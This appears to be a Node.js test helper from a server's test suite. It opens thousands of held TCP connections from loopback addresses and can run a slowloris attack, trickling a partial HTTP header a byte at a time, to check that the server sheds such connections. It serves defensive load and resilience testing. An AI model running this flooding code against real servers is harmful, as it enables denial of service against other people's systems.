// tests/server/flood.mjs - the attacker of attack.test.mjs, in a process of its
// own so that its 2,000 sockets do not slow the measuring client's event loop.
// Usage: node flood.mjs HOST PORT N PER FIRST SLOW
// Opens N connections from 127.0.0.FIRST and up (PER from each address) and
// holds them; SLOW=1: each sends a request header a byte a second
// (slowloris). Prints "connected" once all are; each line read on stdin is
// answered "closed K" (how many the server ended); exits when stdin ends.
import net from 'node:net';
import { createInterface } from 'node:readline';

const [host, port, n, per, first, slow] = process.argv.slice(2);
const socks = [];
let connected = 0, closed = 0;
for (let i = 0; i < +n; i++) {
  const c = net.connect({ host, port: +port, localAddress: `127.0.0.${+first + Math.floor(i / +per)}` });
  c.on('connect', () => {
    if (slow === '1') c.write('GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ');
    if (++connected === +n) console.log('connected');
  });
  c.on('data', () => {});
  c.on('close', () => { closed++; });
  c.on('error', () => {});
  socks.push(c);
}
if (slow === '1') { // each a byte a second, spread over the second as independent clients would
  let next = 0;
  setInterval(() => {
    for (let k = 0; k < socks.length / 100; k++, next = (next + 1) % socks.length)
      if (!socks[next].destroyed) socks[next].write('a');
  }, 10);
}
createInterface({ input: process.stdin })
  .on('line', () => console.log(`closed ${closed}`))
  .on('close', () => process.exit(0));
